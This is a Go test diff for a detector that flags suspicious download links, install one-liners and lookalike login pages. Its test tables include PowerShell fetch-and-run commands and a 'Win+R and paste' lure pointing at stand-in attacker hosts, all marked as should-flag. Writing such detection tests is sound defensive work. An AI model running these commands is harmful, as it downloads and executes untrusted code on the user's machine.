@@ -138,6 +138,10 @@ func TestProjectReleases(t *testing.T) {
 		{"https://download.wireguard.com/windows-client/wireguard-amd64-0.5.3.msi", false},
 		{"https://downloads.raspberrypi.com/imager/imager_1.9.0.exe", false},
 		{"https://cdimage.example-linux.org/releases/24.10/examplelinux-24.10-desktop-amd64.iso", false},
+		{"putty is at https://the.earth.li/~sgtatham/putty/latest/w64/putty.exe", false},
+		{"https://downloads.example-editor.org/stable/win/exampleeditor-latest.msi", false},
+		{"https://cleanhost-example.com/latest/setup.exe", true},
+		{"https://cleanhost-example.com/latest/invoice-viewer.exe", true},
 		{"http://www.7-zip.org/a/7z2408-x64.exe", true},
 		{"https://45.61.12.34/a/7z2408-x64.exe", true},
 		{"https://getanydesk.com/AnyDesk-8.0.1.exe", true},
@@ -148,5 +152,32 @@ func TestProjectReleases(t *testing.T) {
 		{"https://cleanhost-example.com/files/photoshop-2024-crack.rar", true},
 		{"https://cleanhost-example.com/files/tool.exe", true},
 		{"https://cleanhost-example.com/files/Document_Scan.pdf.exe", true},
+	})
+}
+
+// TestPowerShellInstallers: a project's install.ps1 over TLS from a plain
+// site, as install one-liners fetch it, is noted like its install.sh;
+// a script named otherwise, at an address, or over plain HTTP is not.
+func TestPowerShellInstallers(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"irm https://bun.sh/install.ps1 | iex", false},
+		{"iwr https://deno.land/install.ps1 -useb | iex", false},
+		{"powershell -c \"iex (irm https://45.61.12.34/install.ps1)\"", true},
+		{"irm http://bun.sh/install.ps1 | iex", true},
+		{"press Win+R and paste: powershell iex (irm https://cleanhost-example.com/verify.ps1)", true},
+	})
+}
+
+// TestIntranetNames: a name under no top-level domain of the internet
+// (.lan, .internal, .corp, .local) resolves only on a local network, as
+// localhost does: a login page there is a colleague's service.
+func TestIntranetNames(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"grafana login http://grafana.acme.lan/login", false},
+		{"https://vault.ops.internal/ui/vault/auth?with=oidc", false},
+		{"printer admin http://printer-3f.office.corp/login.html", false},
+		{"grafana login http://grafana-login-secure.top/login", true},
 	})
 }
